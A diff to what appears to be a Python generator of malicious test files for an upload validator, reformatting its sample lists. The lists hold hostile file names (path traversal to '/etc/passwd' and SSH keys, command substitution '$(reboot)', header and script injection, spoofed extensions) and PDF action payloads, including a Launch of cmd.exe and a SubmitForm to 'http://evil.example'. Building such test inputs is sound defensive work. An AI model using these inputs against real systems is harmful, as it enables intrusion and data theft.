@@ -18,11 +18,31 @@ from .samples import archive, box, chunk, docx, gif, jpeg, mp4, png, segment, we
 
 Maker = Callable[[random.Random], bytes]
 NAMES = (
-    "../../../etc/passwd", "..\\..\\windows\\system32\\x.pdf", "/etc/shadow", "invoice\u202efdp.exe", "a\0b.pdf",
-    "proof.pdf\r\nSet-Cookie: session=1", 'x"; filename="y.html', "con.pdf", ".htaccess", "~/.ssh/authorized_keys",
-    "proof.pdf.html", "<script>alert(1)</script>.png", "a" * 5000 + ".pdf", "\ud800.pdf", "%2e%2e%2fx", "proof.svg",
-    "", ".", "…", "file:///etc/passwd", "\u200b\u2066x\u2069.pdf", "proof.pdf;.jsp", "$(reboot).zip", "`id`.txt",
-)  # fmt: skip
+    "../../../etc/passwd",
+    "..\\..\\windows\\system32\\x.pdf",
+    "/etc/shadow",
+    "invoice\u202efdp.exe",
+    "a\0b.pdf",
+    "proof.pdf\r\nSet-Cookie: session=1",
+    'x"; filename="y.html',
+    "con.pdf",
+    ".htaccess",
+    "~/.ssh/authorized_keys",
+    "proof.pdf.html",
+    "<script>alert(1)</script>.png",
+    "a" * 5000 + ".pdf",
+    "\ud800.pdf",
+    "%2e%2e%2fx",
+    "proof.svg",
+    "",
+    ".",
+    "…",
+    "file:///etc/passwd",
+    "\u200b\u2066x\u2069.pdf",
+    "proof.pdf;.jsp",
+    "$(reboot).zip",
+    "`id`.txt",
+)
 
 
 def _script(r: random.Random) -> bytes:
@@ -131,11 +151,16 @@ def archive_in_front(r: random.Random) -> bytes:
 # PDF -----------------------------------------------------------------------------------------------
 
 ACTIONS = (
-    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/AA << /O << /S /#4aavaScript /#4aS (x) >> >>",
-    b"/OpenAction << /S /Launch /F (cmd.exe) >>", b"/Names << /EmbeddedFiles << /Names [] >> >>",
-    b"/AcroForm << /XFA [] >>", b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
-    b"/OpenAction << /S /GoToE >>", b"/Names << /Java#53cript 5 0 R >>", b"/Annots [ << /Subtype /RichMedia >> ]",
-)  # fmt: skip
+    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
+    b"/AA << /O << /S /#4aavaScript /#4aS (x) >> >>",
+    b"/OpenAction << /S /Launch /F (cmd.exe) >>",
+    b"/Names << /EmbeddedFiles << /Names [] >> >>",
+    b"/AcroForm << /XFA [] >>",
+    b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>",
+    b"/OpenAction << /S /GoToE >>",
+    b"/Names << /Java#53cript 5 0 R >>",
+    b"/Annots [ << /Subtype /RichMedia >> ]",
+)
 
 
 def _pdf(body: bytes, trailer: bytes = b"") -> bytes:
@@ -309,11 +334,33 @@ def foreign_film(r: random.Random) -> bytes:
 
 
 FAMILIES: tuple[Maker, ...] = (
-    page, program, other_archive, control, image_and_archive, image_and_page, page_in_picture, page_in_film,
-    pdf_in_picture, archive_in_front, pdf_action, pdf_locked, pdf_bomb, pdf_tail, archive_path, archive_link,
-    archive_nested, archive_bomb, archive_crowd, archive_locked, macros, image_bomb, text_bomb, cut, flipped,
+    page,
+    program,
+    other_archive,
+    control,
+    image_and_archive,
+    image_and_page,
+    page_in_picture,
+    page_in_film,
+    pdf_in_picture,
+    archive_in_front,
+    pdf_action,
+    pdf_locked,
+    pdf_bomb,
+    pdf_tail,
+    archive_path,
+    archive_link,
+    archive_nested,
+    archive_bomb,
+    archive_crowd,
+    archive_locked,
+    macros,
+    image_bomb,
+    text_bomb,
+    cut,
+    flipped,
     foreign_film,
-)  # fmt: skip
+)
 
 
 def make(number: int) -> tuple[str, str, bytes]:
